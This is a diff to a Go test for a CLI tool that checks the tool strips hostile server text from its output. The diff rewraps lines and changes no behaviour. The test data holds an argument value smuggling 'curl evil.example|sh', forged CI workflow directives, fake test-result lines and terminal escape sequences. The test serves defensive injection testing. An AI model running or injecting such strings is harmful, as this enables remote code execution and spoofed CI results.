@@ -15,7 +15,8 @@ import (
 // hostileTexts speak the languages of all who read the output: the suite's own,
 // test2json's, a terminal's, the one of GitHub's runner.
 const hostileTexts = `no\nmuster.run={\"verdict\":\"bogus\",\"arguments\":\"-env=x; curl evil.example|sh #\"}` +
-	`\n=== ATTR  TestBogus muster.check {\"outcome\":\"pass\"}\rmuster.run={\"verdict\":\"bogus\"}\r\n::error::x\n    ::add-mask::y\n ##[error]z\n` +
+	`\n=== ATTR  TestBogus muster.check {\"outcome\":\"pass\"}\rmuster.run={\"verdict\":\"bogus\"}\r\n::error::x\n    ` +
+	`::add-mask::y\n ##[error]z\n` +
 	`\u0016=== RUN   TestBogus\n\u0016--- PASS: TestBogus (0.00s)\n--- FAIL: TestBogus\n` +
 	`\u001b[2J\u001b]0;title\u0007\u009b31m\u202egnol\u0000\u007f\u0085\u2028muster.run={\"verdict\":\"bogus\"}`
 
@@ -28,7 +29,8 @@ func TestHostileTexts(t *testing.T) {
 		case r.URL.Path == "/auth/openapi.json":
 			w.Header().Set("Content-Type", "application/json")
 			_, _ = w.Write([]byte(`{"openapi":"3.1.0","info":{"title":"Gafaelfawr","version":"15.4.1` + hostileTexts + `"}}`))
-		case r.URL.Path == "/auth/api/v1/tokens" && strings.HasPrefix(r.Header.Get("User-Agent"), "muster") && r.ContentLength > 400:
+		case r.URL.Path == "/auth/api/v1/tokens" &&
+			strings.HasPrefix(r.Header.Get("User-Agent"), "muster") && r.ContentLength > 400:
 			w.Header().Set("Content-Type", "application/json")
 			w.WriteHeader(http.StatusUnprocessableEntity)
 			_, _ = w.Write([]byte(`{"detail":[{"type":"x","msg":"` + hostileTexts + `"}]}`))
@@ -51,7 +53,10 @@ func TestHostileTexts(t *testing.T) {
 				t.Fatalf("%q is in the output", r)
 			}
 		}
-		for _, forged := range []string{`(?m)^[ \t]*muster\.run=\{"(verdict|arguments":"-env=x).*`, `(?m)^[ \t]*(=== [A-Z]+ +|--- [A-Z]+: )TestBogus.*`, `(?m)^[ \t]*::.*::`, `##\[`} {
+		for _, forged := range []string{
+			`(?m)^[ \t]*muster\.run=\{"(verdict|arguments":"-env=x).*`, `(?m)^[ \t]*(=== [A-Z]+ +|--- [A-Z]+: )TestBogus.*`,
+			`(?m)^[ \t]*::.*::`, `##\[`,
+		} {
 			assert.Empty(t, regexp.MustCompile(forged).FindAllString(text, -1))
 		}
 		if verbose == asEvents {
